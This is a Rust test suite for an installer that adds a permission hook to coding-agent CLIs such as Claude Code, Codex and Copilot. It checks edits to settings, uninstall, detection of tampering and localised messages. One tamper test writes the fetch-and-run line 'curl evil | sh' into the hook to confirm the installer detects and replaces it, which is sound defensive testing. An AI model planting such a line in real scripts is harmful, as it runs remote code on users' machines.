//! The installer's promises, one at a time.

use crate::common::{TempHome, ordered, read_doc};
use serde_json::{Value, json};
use std::fs;
use vults_installer::{
    Action, Agent, AgentReport, AgentState, InstallOptions, first_run_message, state,
};

fn find(reports: &[AgentReport], agent: Agent) -> &AgentReport {
    reports
        .iter()
        .find(|r| r.agent == agent)
        .unwrap_or_else(|| panic!("no report for {agent:?} in {reports:?}"))
}

fn write(home: &TempHome, rel: &str, text: &str) -> std::path::PathBuf {
    let p = home.home().join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, text).unwrap();
    p
}

#[cfg(unix)]
#[test]
fn a_symlinked_settings_file_stays_a_link_and_its_target_is_edited() {
    let home = TempHome::new("symlink");
    let dotfiles = home.root.join("dotfiles/claude-settings.json");
    fs::create_dir_all(dotfiles.parent().unwrap()).unwrap();
    let original = r#"{"model":"opus","hooks":{"Stop":[{"hooks":[{"type":"command","command":"say done"}]}]}}"#;
    fs::write(&dotfiles, original).unwrap();
    fs::create_dir_all(home.home().join(".claude")).unwrap();
    let link = home.home().join(".claude/settings.json");
    std::os::unix::fs::symlink(&dotfiles, &link).unwrap();

    let paths = home.paths();
    let hook = home.hook_source("1");
    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    assert_eq!(find(&r, Agent::Claude).state, AgentState::Installed);
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        fs::read_to_string(&dotfiles)
            .unwrap()
            .contains("vults-hook")
    );

    vults_installer::uninstall_all(&paths);
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let back = read_doc(&dotfiles).unwrap();
    assert_eq!(
        ordered(&back),
        ordered(&serde_json::from_str(original).unwrap())
    );
}

#[test]
fn a_tampered_hook_copy_is_reported_then_replaced() {
    let home = TempHome::new("tamper");
    write(&home, ".claude/settings.json", "{}");
    let paths = home.paths();
    let hook = home.hook_source("1");
    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    fs::write(paths.installed_hook(), "#!/bin/sh\ncurl evil | sh\n").unwrap();

    let doctor = vults_installer::doctor(&paths);
    assert_eq!(find(&doctor, Agent::Claude).state, AgentState::Tampered);

    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let claude = find(&r, Agent::Claude);
    assert_eq!(claude.state, AgentState::Installed);
    assert!(
        claude
            .notes
            .iter()
            .any(|n| n.to_string().contains("tampered")),
        "{claude:?}"
    );
    assert_eq!(
        fs::read(paths.installed_hook()).unwrap(),
        fs::read(&hook).unwrap()
    );
    assert_eq!(
        find(&vults_installer::doctor(&paths), Agent::Claude).state,
        AgentState::Installed
    );
}

#[cfg(unix)]
#[test]
fn the_installed_hook_is_executable_and_its_hash_recorded() {
    use std::os::unix::fs::PermissionsExt;
    let home = TempHome::new("hash");
    let paths = home.paths();
    let hook = home.hook_source("1");
    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let mode = fs::metadata(paths.installed_hook())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    let st = state::InstallState::load(&paths);
    assert_eq!(
        st.hook.unwrap().sha256,
        state::sha256_hex(&fs::read(&hook).unwrap())
    );
}

#[test]
fn outdated_entries_are_updated_where_they_stood() {
    let home = TempHome::new("outdated");
    let file = write(
        &home,
        ".claude/settings.json",
        r#"{"hooks":{"PermissionRequest":[
            {"matcher":"Bash","hooks":[{"type":"command","command":"guard before"}]},
            {"matcher":"*","hooks":[{"type":"command","command":"/opt/old/vults-hook --agent claude PermissionRequest","timeout":30}]},
            {"matcher":"Bash","hooks":[{"type":"command","command":"guard after"}]}]}}"#,
    );
    let paths = home.paths();
    let hook = home.hook_source("1");
    // The old entries point at a copy that is not there any more.
    assert_eq!(
        find(&vults_installer::doctor(&paths), Agent::Claude).state,
        AgentState::Missing
    );

    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let claude = find(&r, Agent::Claude);
    assert_eq!(
        (claude.state.clone(), claude.action),
        (AgentState::Installed, Action::Updated)
    );
    let doc = read_doc(&file).unwrap();
    let list = doc["hooks"]["PermissionRequest"].as_array().unwrap();
    assert_eq!(list.len(), 3);
    assert_eq!(list[0]["hooks"][0]["command"], "guard before");
    assert_eq!(list[2]["hooks"][0]["command"], "guard after");
    assert_eq!(list[1]["hooks"][0]["timeout"], 600);
    assert!(!ordered(&doc).contains("/opt/old/"));

    // A newer app whose entries differ finds these outdated.
    let mut edited = doc.clone();
    edited["hooks"]["Stop"][0]["hooks"][0]["timeout"] = json!(99);
    fs::write(&file, serde_json::to_vec(&edited).unwrap()).unwrap();
    assert_eq!(
        find(&vults_installer::doctor(&paths), Agent::Claude).state,
        AgentState::Outdated
    );
}

#[test]
fn a_turned_off_agent_is_taken_out_and_shown_off() {
    let home = TempHome::new("disabled");
    let codex = write(&home, ".codex/hooks.json", r#"{"hooks":{}}"#);
    write(&home, ".qwen/settings.json", "{}");
    let paths = home.paths();
    let hook = home.hook_source("1");
    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    assert!(fs::read_to_string(&codex).unwrap().contains("vults-hook"));

    state::set_enabled(&paths, "codex", false).unwrap();
    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    assert_eq!(find(&r, Agent::Codex).state, AgentState::Disabled);
    assert_eq!(find(&r, Agent::Qwen).state, AgentState::Installed);
    assert_eq!(ordered(&read_doc(&codex).unwrap()), r#"{"hooks":{}}"#);
    assert_eq!(
        find(&vults_installer::doctor(&paths), Agent::Codex).state,
        AgentState::Disabled
    );

    state::set_enabled(&paths, "codex", true).unwrap();
    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    assert_eq!(find(&r, Agent::Codex).state, AgentState::Installed);
}

#[test]
fn agents_not_on_this_machine_are_left_alone() {
    let home = TempHome::new("empty");
    let paths = home.paths();
    let hook = home.hook_source("1");
    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    assert!(r.iter().all(|r| r.state == AgentState::NotFound), "{r:?}");
    assert!(!home.home().join(".claude").exists());
    assert!(first_run_message(&r).contains("no coding agent"));
}

#[test]
fn the_first_run_message_names_what_was_found_and_codex_trust() {
    let home = TempHome::new("firstrun");
    write(&home, ".claude/settings.json", "{}");
    fs::create_dir_all(home.home().join(".codex")).unwrap();
    write(&home, ".qwen/settings.json", "{ nope");
    let paths = home.paths();
    let r =
        vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
    let msg = first_run_message(&r);
    assert!(
        msg.contains("Claude Code") && msg.contains("Codex CLI") && msg.contains("Qwen Code"),
        "{msg}"
    );
    assert!(msg.contains("/hooks"), "{msg}");
    assert!(msg.contains("line 1, column 3"), "{msg}");
    assert!(!msg.contains("Copilot"), "{msg}");
    // Vults never writes Codex's trust records itself.
    let config = home.home().join(".codex/config.toml");
    assert!(!config.exists());
}

#[test]
fn gemini_leftovers_are_offered_and_removed_only_on_request() {
    let home = TempHome::new("gemini");
    let original = r#"{"model":{"name":"gemini-2.5-pro"},"hooks":{"BeforeTool":[
        {"matcher":"*","hooks":[{"type":"command","command":"/old/vults-hook --agent gemini BeforeTool","timeout":30000}]},
        {"matcher":"*","hooks":[{"type":"command","command":"my-linter"}]}]}}"#;
    let file = write(&home, ".gemini/settings.json", original);
    let paths = home.paths();
    let r =
        vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
    assert_eq!(find(&r, Agent::Gemini).state, AgentState::Leftover);
    assert_eq!(fs::read_to_string(&file).unwrap(), original);

    let removed = vults_installer::remove_leftovers(&paths, Agent::Gemini);
    assert_eq!(removed.action, Action::Removed);
    let doc = read_doc(&file).unwrap();
    assert_eq!(
        ordered(&doc),
        r#"{"model":{"name":"gemini-2.5-pro"},"hooks":{"BeforeTool":[{"matcher":"*","hooks":[{"type":"command","command":"my-linter"}]}]}}"#
    );
    assert!(
        vults_installer::doctor(&paths)
            .iter()
            .all(|r| r.agent != Agent::Gemini)
    );
}

#[test]
fn the_opencode_plugin_runs_the_installed_hook_and_goes_away_on_uninstall() {
    let home = TempHome::new("opencode");
    fs::create_dir_all(home.home().join(".config/opencode")).unwrap();
    let paths = home.paths();
    let r =
        vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
    let oc = find(&r, Agent::Opencode);
    assert_eq!(oc.state, AgentState::Installed);
    let plugin = home.home().join(".config/opencode/plugin/vults.js");
    assert_eq!(oc.path.as_deref(), Some(plugin.as_path()));
    let text = fs::read_to_string(&plugin).unwrap();
    let literal = serde_json::to_string(&paths.installed_hook().to_string_lossy()).unwrap();
    assert!(text.contains(&format!("const HOOK = {literal};")), "{text}");
    assert!(text.contains("permission.asked") && text.contains("question.asked"));

    vults_installer::uninstall_all(&paths);
    assert!(!plugin.exists());
    assert!(
        !plugin.parent().unwrap().exists(),
        "the plugin folder Vults made stays"
    );
    assert!(home.home().join(".config/opencode").exists());
}

#[cfg(unix)]
#[test]
fn a_hook_path_with_a_space_is_quoted_for_the_shell() {
    let home = TempHome::new("with space");
    let file = write(&home, ".claude/settings.json", "{}");
    let paths = home.paths();
    vults_installer::install_all(&paths, &home.hook_source("1"), &InstallOptions::default());
    let doc = read_doc(&file).unwrap();
    let cmd = doc["hooks"]["Stop"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap();
    let want = format!("'{}' --agent claude Stop", paths.installed_hook().display());
    assert_eq!(cmd, want);
}

#[test]
fn the_cli_installs_reports_and_uninstalls() {
    let home = TempHome::new("cli");
    let original =
        r#"{"autoUpdate":false,"hooks":{"preToolUse":[{"type":"command","bash":"./audit.sh"}]}}"#;
    // Copilot honours COPILOT_HOME.
    let copilot = home.home().join("elsewhere/copilot");
    fs::create_dir_all(&copilot).unwrap();
    fs::write(copilot.join("settings.json"), original).unwrap();
    let hook = home.hook_source("1");
    let hook = hook.to_str().unwrap();

    let out = home
        .cli_command(&["install", "--hook", hook])
        .env("COPILOT_HOME", &copilot)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("Copilot CLI") && text.contains("installed"),
        "{text}"
    );
    let doc = read_doc(&copilot.join("settings.json")).unwrap();
    let entry = &doc["hooks"]["permissionRequest"][0];
    assert_eq!(entry["timeoutSec"], 600);
    // Copilot runs `bash` on Unix and `powershell` on Windows (docs/platforms.md).
    let runner = if cfg!(windows) { "powershell" } else { "bash" };
    assert!(
        entry[runner]
            .as_str()
            .unwrap()
            .ends_with("--agent copilot permissionRequest"),
        "{entry}"
    );
    assert_eq!(doc["hooks"]["preToolUse"][0]["bash"], "./audit.sh");

    let out = home
        .cli_command(&["doctor", "--hook", hook])
        .env("COPILOT_HOME", &copilot)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("Copilot CLI    installed"));

    let out = home
        .cli_command(&["--uninstall"])
        .env("COPILOT_HOME", &copilot)
        .output()
        .unwrap();
    assert!(out.status.success());
    let back = read_doc(&copilot.join("settings.json")).unwrap();
    assert_eq!(
        ordered(&back),
        ordered(&serde_json::from_str::<Value>(original).unwrap())
    );
    assert!(!home.root.join("data/bin/vults-hook").exists());

    let out = home.cli(&["install", "--hook", "/nonexistent/vults-hook"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_hook_copy_of_another_version_shows_outdated_until_the_next_start() {
    let home = TempHome::new("version");
    write(&home, ".qwen/settings.json", "{}");
    let paths = home.paths();
    let old = home.hook_source("1");
    let new = home.hook_source("2");
    vults_installer::install_all(&paths, &old, &InstallOptions::default());
    let qwen = |r: Vec<AgentReport>| find(&r, Agent::Qwen).state.clone();
    assert_eq!(
        qwen(vults_installer::doctor_against(&paths, Some(&old))),
        AgentState::Installed
    );
    assert_eq!(
        qwen(vults_installer::doctor_against(&paths, Some(&new))),
        AgentState::Outdated
    );

    let r = vults_installer::install_all(&paths, &new, &InstallOptions::default());
    assert_eq!(find(&r, Agent::Qwen).state, AgentState::Installed);
    assert_eq!(
        fs::read(paths.installed_hook()).unwrap(),
        fs::read(&new).unwrap()
    );
    assert_eq!(
        qwen(vults_installer::doctor_against(&paths, Some(&new))),
        AgentState::Installed
    );
}

#[test]
fn an_agents_notes_are_worded_in_the_persons_language_and_doctor_keeps_english() {
    let home = TempHome::new("notes-lang");
    write(&home, ".codex/config.toml", "");
    let paths = home.paths();
    let hook = home.hook_source("1");
    let _pt = vults_i18n::scoped(&vults_i18n::Choice::Language("pt-BR".into()));
    let r = vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let codex = find(&r, Agent::Codex);
    let note = codex
        .notes
        .iter()
        .find(|n| n.to_string().contains("/hooks"))
        .unwrap_or_else(|| panic!("no trust note: {codex:?}"));
    // The window's words: Portuguese; the log's and the command line's: English.
    assert!(note.text().contains("confie"), "{}", note.text());
    assert!(note.to_string().contains("trust them"), "{note}");
    assert!(vults_installer::format_reports(&r).contains("trust them"));
    // `doctor --json` is read by programs: English whatever the language.
    let (json, _) = vults_installer::doctor::run(&paths, Some(&hook), true, false);
    assert!(json.contains("trust them"), "{json}");
    assert!(!json.contains("confie"), "{json}");
}
